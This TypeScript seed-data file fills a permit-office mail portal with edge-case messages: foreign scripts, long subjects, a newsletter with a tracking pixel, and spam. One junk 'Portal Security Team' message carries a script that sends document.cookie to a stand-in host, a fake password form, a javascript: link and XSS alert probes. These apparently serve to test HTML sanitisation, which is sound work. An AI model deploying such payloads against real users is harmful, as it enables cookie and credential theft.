import type { MailAddress, MailFolderId } from '@portal/contract'
import { textOfBlocks } from './blocks.ts'
import { png } from './attachments.ts'
import type { SeedAttachment } from './attachments.ts'

/** A message without a story. Without `from` it is from the owner of the mailbox. */
export interface OddMessage {
  folder: MailFolderId
  from?: MailAddress
  to?: MailAddress
  subject: string
  text: string
  html?: string
  hoursAgo: number
  isRead: boolean
  flag?: boolean
  attachments?: readonly SeedAttachment[]
  headers?: readonly { name: string; value: string }[]
}

const tracker = '<img src="https://tracker.example/open.gif?who=you" width="1" height="1">'

/** Typical edge cases of real mail: other scripts, long subjects, remote pictures, and malicious mail. */
const strangers: readonly OddMessage[] = [
  {
    folder: 'inbox',
    from: { name: 'عبد الرحمن الفهري', address: 'a.alfihri@nahar-contracting.example' },
    subject: 'طلب تصريح بناء للمستودع الجديد',
    text: 'السلام عليكم،\n\nنرغب في تقديم طلب تصريح بناء لمستودع جديد في شارع 4. هل يمكنكم إرسال قائمة المستندات المطلوبة؟\n\nعبد الرحمن الفهري\nNahar Contracting',
    hoursAgo: 7,
    isRead: false,
  },
  {
    folder: 'inbox',
    from: { name: 'Lucia Marchetti', address: 'lucia@sunnyside-solar.example' },
    subject: 'Panels are up ☀️🎉 what happens next?',
    text: 'Hi,\n\nthe last panel went up today ☀️ and everybody is happy. Which inspection comes first, electrical or final?\n\nLucia',
    hoursAgo: 11,
    isRead: false,
    attachments: [
      png('Roof.png', 80, (x, y) =>
        y < 30 ? 235 : (Math.floor(x / 10) + Math.floor(y / 8)) % 2 === 0 ? 40 : 60,
      ),
    ],
  },
  {
    folder: 'inbox',
    from: {
      name: 'Bartholomew Maximilian Featherstonehaugh-Cholmondeley, Registered Professional Land Surveyor and Consultant',
      address: 'bm@boundary-survey.example',
    },
    subject:
      'Boundary survey, topographic survey, tree survey and elevation certificate for Lots 12, 13, 14 and the north half of Lot 15, Block C, Barton Terrace Section Two, together with the vacated alley lying between them, revised after your call of Tuesday',
    text: 'All four are in the mail on paper. Digital copies follow once the County has recorded the vacation of the alley.\n\nB. M. Featherstonehaugh-Cholmondeley, RPLS',
    hoursAgo: 30,
    isRead: true,
    flag: true,
  },
  {
    folder: 'inbox',
    from: { name: 'Central Texas Builders Bulletin', address: 'news@builders-bulletin.example' },
    subject: 'Code cycle: what changes in January',
    text: 'What changes in January\n\nThe new residential code takes effect on January 1. Applications filed before keep the old one.\n\nRead more: https://builders-bulletin.example/code-cycle',
    html: [
      '<style>.promo{background:url(https://cdn.builders-bulletin.example/ground.png)}</style>',
      '<table width="600" bgcolor="#f3f4f6" style="color:#111827"><tr><td style="padding:16px"><img src="https://cdn.builders-bulletin.example/header.jpg" alt="Builders Bulletin" width="568">',
      '<h2 style="color:#92400e">What changes in January</h2><p>The new residential code takes effect on <b>January 1</b>. Applications filed before keep the old one.</p>',
      '<p><a href="https://builders-bulletin.example/code-cycle" style="color:#92400e">Read more</a></p><img src="https://cdn.builders-bulletin.example/chart.png" alt="Chart of applications by month"></td></tr></table>',
      tracker,
    ].join(''),
    hoursAgo: 52,
    isRead: false,
    headers: [{ name: 'List-Unsubscribe', value: '<https://builders-bulletin.example/unsubscribe>' }],
  },
  {
    folder: 'junkemail',
    from: { name: 'Portal Security Team', address: 'security@porta1-example.invalid' },
    subject: 'Your session has expired, confirm your password',
    text: 'Confirm your password within 24 hours: https://porta1-example.invalid/login',
    html: [
      '<script>document.location="https://porta1-example.invalid/steal?c="+document.cookie</script>',
      '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:99999" onclick="alert(1)"><h2>Your session has expired</h2>',
      '<form action="https://porta1-example.invalid/login"><p>Password</p><input type="password" name="p"><button>Confirm</button></form></div>',
      '<p><a href="javascript:alert(document.domain)">https://portal.example/login</a></p>',
      '<iframe src="https://porta1-example.invalid/frame"></iframe><svg onload="alert(2)"></svg><img src="x" onerror="alert(3)">',
      tracker,
    ].join(''),
    hoursAgo: 20,
    isRead: false,
  },
  {
    folder: 'junkemail',
    from: { name: 'Fast Permits 4 U', address: 'deal@fast-permits.invalid' },
    subject: 'Permits in 24 h, no plans needed!!!',
    text: 'We know somebody at the city. Answer with the word YES.',
    html: `<p style="font-size:32px;color:#dc2626;background:u\\72l(https://fast-permits.invalid/x.png)">PERMITS IN 24 H</p><p>Answer with the word <b>YES</b>.</p>${tracker}`,
    hoursAgo: 75,
    isRead: false,
  },
  {
    folder: 'junkemail',
    from: { name: 'Toner Direct', address: 'offers@toner-direct.invalid' },
    subject: 'Plotter paper, 36 inch, half price',
    text: 'This week only: 36 inch bond, 20 lb, four rolls a carton.',
    hoursAgo: 130,
    isRead: true,
  },
  {
    folder: 'deleteditems',
    from: { name: 'Print room', address: 'printroom@portal.example' },
    subject: 'Plotter back in service',
    text: 'The plotter on the second floor works again.',
    hoursAgo: 200,
    isRead: true,
  },
]

/** Drafts of the mailbox's owner, and mail without a story. */
function own(client: MailAddress, refNo: string, staffName: string): readonly OddMessage[] {
  return [
    {
      folder: 'drafts',
      to: client,
      subject: `${refNo}: next steps`,
      text: textOfBlocks([`Hello ${client.name.split(' ')[0]},`, 'two things before we resubmit:']),
      hoursAgo: 3,
      isRead: true,
    },
    {
      folder: 'drafts',
      subject: 'Office hours in December',
      text: 'Dear all,\n\nbetween the holidays the intake desk is open from 9 to 1.',
      hoursAgo: 26,
      isRead: true,
    },
    {
      folder: 'outbox',
      to: client,
      subject: `${refNo}: receipt for your books`,
      text: `Hello ${client.name.split(' ')[0]},\n\nthe receipt is in the portal under Payments.\n\n${staffName}`,
      hoursAgo: 1,
      isRead: true,
    },
    {
      folder: 'conversationhistory',
      from: client,
      subject: `Conversation with ${client.name}`,
      text: `${client.name}, 9:12: is the reviewer in today?\n${staffName}, 9:13: from ten\n${client.name}, 9:13: thanks, I will call then`,
      hoursAgo: 49,
      isRead: true,
    },
    {
      folder: 'conversationhistory',
      from: client,
      subject: `Conversation with ${client.name}`,
      text: `${client.name}, 15:40: plans are on the way\n${staffName}, 15:52: got them`,
      hoursAgo: 340,
      isRead: true,
    },
  ]
}

/** The messages of one mailbox without a story. */
export function oddMessages(client: MailAddress, refNo: string, staffName: string): readonly OddMessage[] {
  return [...strangers, ...own(client, refNo, staffName)]
}
